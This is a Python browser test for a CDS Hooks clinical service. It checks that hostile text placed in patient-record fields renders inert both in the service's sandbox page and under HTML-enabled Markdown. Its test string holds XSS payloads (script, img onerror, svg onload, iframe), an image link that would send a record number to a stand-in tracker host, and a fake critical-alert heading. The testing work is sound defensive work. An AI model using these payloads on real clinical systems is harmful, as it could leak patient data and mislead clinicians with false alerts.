"""The real service's answer to a record full of hostile text, in headless Chromium (issue 25).

Once through the /sandbox page, and once as an EHR with HTML-enabled Markdown shows it (the official CDS Hooks
Sandbox does): every rendered field through markdown-it with ``html`` on, in a page with no CSP. Either way no
script runs and no request leaves: the escaping, not a page's CSP, keeps the text inert.
"""

from __future__ import annotations

import json

import pytest
import requests
from markdown_it import MarkdownIt

from cds_service.sandbox.requests import build_request
from tests.support import config_copy, headless_chromium, start_service
from tests.test_card_injection import FIELDS, _rendered_fields

pytestmark = pytest.mark.browser

TRACKER = "https://tracker.example"
HOSTILE = (
    f"mycophenolate ![p]({TRACKER}/p.png?mrn=MRN-1) "
    f"<img src={TRACKER}/i.png onerror=\"window.__pwned='img'\">"
    f"<script>window.__pwned='script'</script><iframe src={TRACKER}/f></iframe> [go]({TRACKER}/l)"
    f"<svg onload=\"window.__pwned='svg'\"></svg>\n# FAKE CRITICAL: STOP ALL MEDS"
)


@pytest.fixture(scope="module")
def service(tmp_path_factory):
    with start_service(
        config_copy(tmp_path_factory.mktemp("injection-browser")), workers=1, dev=True
    ) as running:
        yield running.base


@pytest.fixture(scope="module")
def answer(service) -> dict:
    """The running service's answer to the pregnant patient's order, hostile text in four fields."""
    body = build_request("pregnant-ln-flare-on-mmf", hook="order-select")
    for field in ("medication-text", "condition-text", "allergy-text", "left-out-id"):
        FIELDS[field](body, HOSTILE)
    response = requests.post(f"{service}/cds-services/tacrolimus-order-select", json=body, timeout=30)
    assert response.status_code == 200, response.text[:300]
    cards = response.json()["cards"]
    assert any(card["indicator"] == "critical" for card in cards)
    assert "FAKE CRITICAL" in json.dumps(cards)  # the text is there, as text
    return response.json()


@pytest.fixture(scope="module")
def browser():
    with headless_chromium() as context:
        yield context


def _watched(browser, allowed_origin: str | None):
    """A page that records script effects (dialogs, errors) and every request leaving ``allowed_origin``
    (which it aborts)."""
    page = browser.new_page()
    page.problems, page.left = [], []
    page.on("pageerror", lambda error: page.problems.append(f"page error: {error}"))
    page.on("dialog", lambda dialog: (page.problems.append(f"dialog: {dialog.message}"), dialog.dismiss()))

    def guard(route) -> None:
        url = route.request.url
        if allowed_origin and url.startswith(allowed_origin):
            route.continue_()
        else:
            page.left.append(url)
            route.abort()

    page.route("**/*", guard)
    return page


def test_hostile_text_rendered_with_html_on_runs_nothing_and_fetches_nothing(browser, answer):
    markdown = MarkdownIt("commonmark", {"html": True})  # raw HTML passes through, as in the official Sandbox
    html = "".join(
        f"<section>{markdown.render(text)}</section>"
        for card in answer["cards"]
        for _, text in _rendered_fields(card)
    )
    page = _watched(browser, None)
    page.set_content(f"<!doctype html><html><body>{html}</body></html>", wait_until="load")
    page.wait_for_timeout(300)  # an onerror or onload handler would have run by now
    assert page.evaluate("window.__pwned") is None
    assert page.query_selector_all("script, img, iframe, svg, a[href], h1") == []
    assert "FAKE CRITICAL" in page.inner_text("body")
    assert page.left == [] and page.problems == []
    page.close()


def test_hostile_text_through_the_sandbox_page_runs_nothing_and_fetches_nothing(browser, service, answer):
    page = _watched(browser, service)
    page.goto(f"{service}/sandbox")
    page.wait_for_selector("body[data-ready=true]")
    page.route(
        "**/cds-services/tacrolimus-order-select",
        lambda route: route.fulfill(status=200, content_type="application/json", body=json.dumps(answer)),
    )
    page.select_option("#fixture", "pregnant-ln-flare-on-mmf")
    page.wait_for_selector("#drafts li[data-ref]")
    page.click(".fire-button[data-hook=order-select]")
    critical = page.wait_for_selector(".card[data-indicator=critical]")
    assert "FAKE CRITICAL" in critical.inner_text()
    assert page.query_selector_all(".card script, .card img, .card iframe, .card svg, .card-detail h1") == []
    assert page.evaluate("window.__pwned") is None
    assert page.left == [] and page.problems == []
    page.close()
